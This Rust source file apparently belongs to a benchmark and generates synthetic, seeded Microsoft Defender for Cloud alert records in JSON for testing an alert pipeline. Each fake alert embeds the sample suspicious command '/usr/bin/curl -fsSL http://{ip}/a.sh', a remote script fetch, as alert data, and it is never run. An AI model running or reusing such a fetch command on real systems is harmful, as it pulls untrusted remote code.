//! Defender alerts as continuous export delivers them: the same bytes for the same seed.
//!
//! The shape and size are those of real alerts (3.6 KB on average): flat PascalCase names, seven-digit fractions, five
//! entities, a long description, four remediation steps, blanks after commas and colons.

use std::process::Command;

/// `count` alerts, and where they are from: with `TRIBUTARY_JUDGE` from that folder's `gen_inputs.py`, else from here.
pub(crate) fn given(count: usize) -> (&'static str, Vec<String>) {
    let Ok(tools) = std::env::var("TRIBUTARY_JUDGE") else { return ("the bench's own generator", alerts(count, 42)) };
    let folder = std::env::temp_dir().join(format!("tributary-bench-{}", std::process::id()));
    let mut command = Command::new("python3");
    command.arg(format!("{tools}/gen_inputs.py")).arg(&folder).args(["--alerts", &count.to_string(), "--tuples", "60"]);
    let output = command.output().expect("python3 must run when TRIBUTARY_JUDGE is set");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let text = std::fs::read_to_string(folder.join("alerts_eventhub.jsonl")).unwrap();
    std::fs::remove_dir_all(folder).unwrap();
    ("gen_inputs.py", text.lines().map(str::to_owned).collect())
}

/// SplitMix64: small, and the same everywhere.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, limit: u64) -> u64 {
        self.next() % limit
    }

    fn uuid(&mut self) -> String {
        let (a, b) = (self.next(), self.next());
        let (high, low) = (a >> 32, a >> 16 & 0xffff);
        format!("{high:08x}-{low:04x}-4{:03x}-8{:03x}-{:012x}", a & 0xfff, b >> 52, b & 0xffff_ffff_ffff)
    }
}

const TYPES: [(&str, &str, &str, &str); 8] = [
    ("VM_SuspectProcessExecution", "Suspicious process executed", "Execution", "High"),
    ("VM_LoginBruteForceSuccess", "Successful brute force attack", "InitialAccess, CredentialAccess", "High"),
    ("K8S_PrivilegedContainer", "Privileged container detected", "PrivilegeEscalation", "Low"),
    ("Storage.Blob_AnonymousAccessAnomaly", "Anonymous access to a storage blob", "InitialAccess", "Medium"),
    ("SQL.VM_BruteForce", "Suspected brute force attempt on SQL", "PreAttack", "Medium"),
    ("AzureDNS_CryptoMining", "Digital currency mining activity (DNS)", "Exfiltration", "Low"),
    ("ARM_SuspiciousComputeCreation", "Suspicious creation of compute resources", "Impact", "Medium"),
    ("VM_AmBroadFilesExclusion", "Antimalware broad files exclusion in your VM", "DefenseEvasion", "Informational"),
];

const DESCRIPTION: &str = "Analysis of host data detected activity that deviates from the learned baseline of this \
    machine. The behaviour was seen from a process started by a service account and was followed by outbound \
    connections to an address that was not contacted in the previous thirty days. ";

const REMEDIATION: &str = r#"["1. Isolate the virtual machine from the network until the investigation is complete.", "2. Review the process tree and the command lines that are listed in the alert entities.", "3. Reset the credentials of every account that signed in to the machine in the last 24 hours.", "4. Open a case with your security operations team and attach this alert identifier."]"#;

/// `count` alerts, one JSON text each.
pub(crate) fn alerts(count: usize, seed: u64) -> Vec<String> {
    let mut random = Random(seed);
    let subscriptions: Vec<String> = (0..3).map(|_| random.uuid()).collect();
    let tenant = random.uuid();
    (0..count).map(|_| alert(&mut random, &subscriptions, &tenant)).collect()
}

fn time(second: u64, micro: u64) -> String {
    let (day, second) = (3 + second / 86_400, second % 86_400);
    let (hour, minute, second) = (second / 3_600, second / 60 % 60, second % 60);
    format!("2025-11-{day:02}T{hour:02}:{minute:02}:{second:02}.{micro:06}0Z")
}

fn alert(random: &mut Random, subscriptions: &[String], tenant: &str) -> String {
    let pick = |random: &mut Random, limit: usize| usize::try_from(random.below(limit as u64)).unwrap_or(0);
    let (kind, name, intent, severity) = TYPES.get(pick(random, TYPES.len())).copied().unwrap_or(TYPES[0]);
    let subscription = subscriptions.get(pick(random, subscriptions.len())).map_or("", String::as_str);
    let (group, vm) = (format!("rg-prod-{:02}", random.below(20)), format!("vm-web-{:03}", random.below(400)));
    let rid = format!(
        "/subscriptions/{subscription}/resourceGroups/{group}/providers/Microsoft.Compute/virtualMachines/{vm}"
    );
    let (second, micro) = (random.below(86_400), random.below(1_000_000));
    let (start, end, generated) = (time(second, micro), time(second + 37, micro), time(second + 95, micro));
    let id = format!("{}_{}", 2_517_500_000_000_000_000 + random.below(1_000_000_000_000_000), random.uuid());
    let ip = format!("{}.{}.{}.{}", 1 + random.below(222), random.below(256), random.below(256), 1 + random.below(254));
    let (workspace, agent) = (random.uuid(), random.uuid());
    let (process, account, asn) = (random.below(1 << 16), random.below(40), random.below(65_000));
    let (session, suspicious) = (random.below(1 << 20), random.below(1 << 16));
    format!(
        r##"{{"VendorName": "Microsoft", "AlertType": "{kind}", "ProductName": "Microsoft Defender for Cloud", "StartTimeUtc": "{start}", "EndTimeUtc": "{end}", "TimeGenerated": "{generated}", "ProcessingEndTime": "{generated}", "Severity": "{severity}", "Status": "New", "ProviderAlertStatus": null, "ConfidenceLevel": null, "ConfidenceScore": null, "ConfidenceReasons": null, "IsIncident": false, "SystemAlertId": "{id}", "CorrelationKey": null, "Intent": "{intent}", "AzureResourceId": "{rid}", "WorkspaceId": "{workspace}", "WorkspaceSubscriptionId": "{subscription}", "WorkspaceResourceGroup": "rg-logs", "AgentId": "{agent}", "CompromisedEntity": "{vm}", "AlertDisplayName": "{name}", "Description": "{DESCRIPTION}Host {vm}, source address {ip}.", "Entities": [{{"$id": "4", "HostName": "{vm}", "AzureID": "{rid}", "OSFamily": "Linux", "Type": "host"}}, {{"$id": "5", "ProcessId": "{process:#x}", "CommandLine": "/usr/bin/curl -fsSL http://{ip}/a.sh", "Host": {{"$ref": "4"}}, "Type": "process"}}, {{"$id": "6", "Name": "svc-app{account:02}", "Host": {{"$ref": "4"}}, "Type": "account"}}, {{"$id": "7", "Address": "{ip}", "Location": {{"CountryCode": "nl", "City": "Amsterdam", "Asn": {asn}}}, "Type": "ip"}}, {{"$id": "8", "ResourceId": "{rid}", "Type": "azure-resource"}}], "ExtendedProperties": {{"Compromised Host": "{vm}", "Suspicious Command Line": "/usr/bin/curl -fsSL http://{ip}/a.sh", "Account Session Id": "{session:#x}", "Suspicious Process Id": "{suspicious:#x}", "resourceType": "Virtual Machine", "ProductComponentName": "Servers", "effectiveSubscriptionId": "{subscription}"}}, "RemediationSteps": {REMEDIATION}, "ResourceIdentifiers": [{{"$id": "2", "AzureResourceId": "{rid}", "Type": "AzureResource", "AzureResourceTenantId": "{tenant}"}}, {{"$id": "3", "AadTenantId": "{tenant}", "Type": "AAD"}}], "AlertUri": "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/{id}/subscriptionId/{subscription}/resourceGroup/{group}/referencedFrom/alertDeepLink/location/westeurope"}}"##
    )
}
